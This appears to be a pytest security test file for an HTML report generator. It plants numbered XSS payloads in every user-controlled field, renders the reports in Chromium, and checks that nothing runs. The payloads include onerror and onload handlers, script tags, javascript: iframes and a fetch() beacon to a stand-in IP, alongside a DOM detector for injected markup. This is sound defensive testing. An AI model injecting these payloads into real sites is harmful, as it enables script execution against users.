"""Nothing from the data runs: an HTML/JS payload in every user-controlled field, built into real
reports by the batch and opened in Chromium.

Each field gets its own numbered payload, so a dialog, a request or an injected element names the
field that was not escaped. The pages are opened twice: once with their Content-Security-Policy
bypassed, so a missed escape shows as script that runs (the CSP must not hide it), and once with it
in force, to see that the reports still load everything they need under it.
"""

import csv
import io
from datetime import date

import pytest
import yaml

from stresskit import actions, batch, charts, guide
from stresskit.batch import report
from stresskit.store import Store
from stresskit.workbook import Workbook

from conftest import copy_example

UNITS = ["fjordby", "hum"]  # the institution (every unit and AMO group) and a leaf below it
FIELDS: list[str] = []  # payload number -> the field it was put in


def payload(field: str) -> str:
    """Text that becomes markup, script, an event handler or a request wherever it is not escaped:
    in element content, in a single- or double-quoted attribute, in <title>/<style>, as a URL."""
    FIELDS.append(field)
    n = len(FIELDS) - 1
    return (
        f"[{n}]<img src=x onerror=alert({n})><script>alert({n});fetch('http://203.0.113.9/{n}')</script>"
        f"<svg onload=alert({n})>\"' tabindex=1 autofocus onfocus=alert({n}) onload=alert({n}) x='\" "
        f'onfocus=alert({n}) x="</title></style><iframe src=javascript:alert({n})></iframe>javascript:alert({n})'
    )


def poison(folder):
    """Payloads in the workbook's files: institution, unit and AMO group names, mapping texts."""
    path = folder / "institution.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["name"] = payload("institution.name")
    ids = {}
    for unit in data["units"]:
        ids[unit["name"]] = unit["id"]
        unit["name"] = payload(f"units.{unit['id']}.name")
    for group in data["amo_groups"]:
        group["name"] = payload(f"amo_groups.{group['id']}.name")
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")

    for path in sorted(
        (folder / "apv").glob("*.csv")
    ):  # every round names units; code them by id so the APV still reads
        text = path.read_text(encoding="utf-8-sig")
        for name, unit_id in ids.items():
            text = text.replace(f";{name};", f";{unit_id};")
        path.write_text(text, encoding="utf-8")

    path = folder / "apv" / "mapping.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for item in data["items"]:
        item["text"] = payload(f"mapping.{item['item']}.text")
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


def poison_signals(folder):
    """A payload as a signals.csv value: the file is refused, and its message must not run either."""
    path = folder / "signals.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        if row[0] == "hum":
            row[-1] = payload("signals.hum.konflikter")
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def value(kind: str, field: str):
    """A payload shaped as the question kind stores it (a list for a checklist)."""
    return [payload(field), payload(field + "[2]")] if kind == "checklist" else payload(field)


def answer_everything(book: Workbook) -> None:
    """Every question of the guide answered with a payload, by a payload, for each unit and AMO group;
    actions with a payload in every field."""
    g = guide.default()
    keys = UNITS + [f"amg:{group.id}" for group in book.amo_groups]
    questions = g.questions.values()
    with Store(book.store_path) as store:
        for key in keys:
            for q in questions:
                if q.kind == "action":
                    continue
                store.save(key, q.id, value(q.kind, f"{key}:{q.id}"), who=payload(f"{key}:{q.id}.who"))
        action_questions = [q for q in questions if q.kind == "action"]
        for unit in UNITS:
            for n, q in enumerate(action_questions):  # listed under their form, late, follow-up due
                level, phase = g.iglo_levels[n % len(g.iglo_levels)].id, g.iglo_phases[n % len(g.iglo_phases)].id
                actions.save(
                    store,
                    actions.Action(
                        unit,
                        payload(f"{unit}:{q.id}.measure"),
                        responsible=payload(f"{unit}:{q.id}.responsible"),
                        deadline="2020-01-01",
                        followup="2020-01-02",
                        recommendation=q.id.split(".")[0],
                        question=q.id,
                        level=level,
                        phase=phase,
                        problem=payload(f"{unit}:{q.id}.problem"),
                    ),
                    who=payload(f"{unit}:{q.id}.who"),
                )
            fields = (
                "measure",
                "responsible",
                "recommendation",
                "question",
                "level",
                "phase",
                "problem",
                "priority",
                "status",
                "deadline",
                "followup",
            )  # every free field, ids and dates too
            actions.save(store, actions.Action(unit, **{f: payload(f"{unit}:action.{f}") for f in fields}))


# What the DOM must never hold: anything that runs, loads or navigates, or an attribute the payload made.
INJECTED = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'base', 'form', 'svg', 'frame', 'link'].includes(tag)) bad.push(el.outerHTML.slice(0, 160));
    for (const a of el.attributes) {
      if (a.name.startsWith('on') || ['autofocus', 'x', 'srcdoc'].includes(a.name) || (a.name === 'tabindex' && a.value !== '0'))
        bad.push(`${tag}[${a.name}=${a.value.slice(0, 80)}]`);
    }
    if (tag === 'img' && !el.getAttribute('src').startsWith('data:')) bad.push(el.outerHTML.slice(0, 160));
    if (tag === 'a' && !/^(#|[\\w.-]+\\/|[\\w.-]+\\.html)/.test(el.getAttribute('href') || '')) bad.push(el.outerHTML.slice(0, 160));
    if (tag === 'meta' && el.httpEquiv && el.httpEquiv.toLowerCase() !== 'content-security-policy') bad.push(el.outerHTML);
  }
  return bad;
}"""
# The numbers of the payloads a reader sees as text.
SHOWN = r"() => [...document.body.innerText.matchAll(/\[(\d+)\]<img src=x onerror=alert\(\1\)>/g)].map(m => m[1])"


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    FIELDS.clear()
    folder = copy_example(tmp_path_factory.mktemp("xss") / "example")
    poison(folder)
    answer_everything(Workbook.open(folder))
    summary = batch.run(folder, tmp_path_factory.mktemp("reports"), units=UNITS, jobs=1)
    poison_signals(folder)  # a refused signals.csv hides the signals form, so it gets a run of its own
    broken = batch.run(folder, tmp_path_factory.mktemp("reports"), units=["hum"], numbers=[1])
    return summary, broken


def fields_of(numbers) -> list[str]:
    return sorted({FIELDS[int(n)] for n in numbers if str(n).isdigit() and int(n) < len(FIELDS)})


def visit(browser, files, enforce: bool) -> tuple[list[str], set[str]]:
    """Open every file, with the CSP in force or bypassed; return what went wrong and the payload
    numbers shown as text."""
    problems, seen = [], set()
    context = browser.new_context(bypass_csp=not enforce)
    dialogs, requests, violations = [], [], []
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: r.url.startswith(("file:", "data:")) or requests.append(r.url))
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
    for file in files:
        page.goto(file.as_uri())
        page.wait_for_timeout(50)  # let onload/onerror/autofocus handlers fire if any were injected
        name = "/".join(file.parts[-2:])
        csp = page.eval_on_selector_all("meta[http-equiv='Content-Security-Policy']", "els => els.map(e => e.content)")
        if csp != [report.CSP]:
            problems.append(f"{name}: Content-Security-Policy er {csp}")
        if not enforce:
            injected = page.evaluate(INJECTED)
            if injected:
                problems.append(f"{name}: indsprøjtet markup {injected[:5]}")
            seen |= set(page.evaluate(SHOWN))
        elif blocked := page.evaluate("() => [...document.images].filter(i => !i.complete || !i.naturalWidth).length"):
            problems.append(f"{name}: {blocked} billeder kan ikke vises under CSP")
    context.close()
    mode = "med CSP" if enforce else "uden CSP"
    if dialogs:
        problems.append(f"dialoger ({mode}) fra felterne {fields_of(dialogs)}")
    if requests:
        problems.append(
            f"forespørgsler ({mode}): {requests[:5]} fra felterne {fields_of(u.rsplit('/', 1)[-1] for u in requests)}"
        )
    if violations:
        problems.append(f"CSP-brud ({mode}): {violations[:3]}")
    return problems, seen


def test_a_payload_in_every_field_stays_text_in_every_report(poisoned, browser):
    summary, refused = poisoned
    stems = [p.stem for p in batch.notebooks()]
    files = [summary.index] + [summary.out / u / f"{s}.html" for u in UNITS for s in stems + ["index"]]
    files += [refused.index, refused.out / "hum" / "01_apv.html", refused.out / "hum" / "index.html"]
    assert [str(f) for f in files if not f.is_file()] == []

    problems, seen = visit(browser, files, enforce=False)  # a missed escape runs here
    problems += visit(browser, files, enforce=True)[0]  # the reports work under their own policy
    assert not problems, "\n".join(problems)

    # The payloads were rendered, as text, for the fields a reader sees.
    shown = {FIELDS[int(n)] for n in seen}
    expected = [
        "institution.name",
        "units.hum.name",
        "units.adm_oekonomi.name",
        "amo_groups.amg_undervisning.name",
        "amo_groups.amg_adm_service.name",
        "hum:action.measure",
        "hum:action.responsible",
        "hum:action.status",
        "hum:action.problem",
        "hum:action.priority",
        "fjordby:action.measure",
    ]
    assert [f for f in expected if f not in shown] == []
    questions = guide.default().questions.values()
    kinds = {q.kind for q in questions if any(f"{u}:{q.id}" in shown for u in UNITS)}
    # a number field that holds text is not a figure: a report shows «–» for it, never the text
    assert kinds >= {"text", "choice", "date", "checklist"}
    assert not any(f.endswith(".who") for f in shown)  # who answered stays in the store, out of the reports


def test_an_imported_action_status_is_text_in_the_iglo_grid_and_plan():
    """The reproduced bug: a status holding HTML became markup (and a class name) in the IGLO grid."""
    g = guide.default()
    evil = "<img src=x onerror=alert(1)>' onmouseover='alert(2)"
    item = actions.Action("hum", "Tiltag", status=evil, priority=evil, level=evil, phase=evil, deadline="2020-01-01")
    for html in (
        actions.iglo_html([item], g, date(2026, 11, 27), {"hum": evil, "nat": "Nat"}),
        actions.plan_html([item], g, {"hum": evil}, date(2026, 11, 27)),
    ):
        assert "<img" not in html and "onmouseover='" not in html
        assert "&lt;img src=x onerror=alert(1)&gt;&#39; onmouseover=&#39;alert(2)" in html
    assert "class='sk-action sk-ukendt'" in actions.iglo_html([item], g, date(2026, 11, 27))


def test_a_name_that_looks_like_mathtext_is_drawn_as_typed():
    html = charts.comparison_bars(["$\\frac{a}$"], [("$x$ \"'<b>", [0.5], [""])], "$\\frac{", "Søjler")
    assert "alt='Søjler. $\\frac{a}$: $x$ &#34;&#39;&lt;b&gt; 50\u00a0%.'" in html
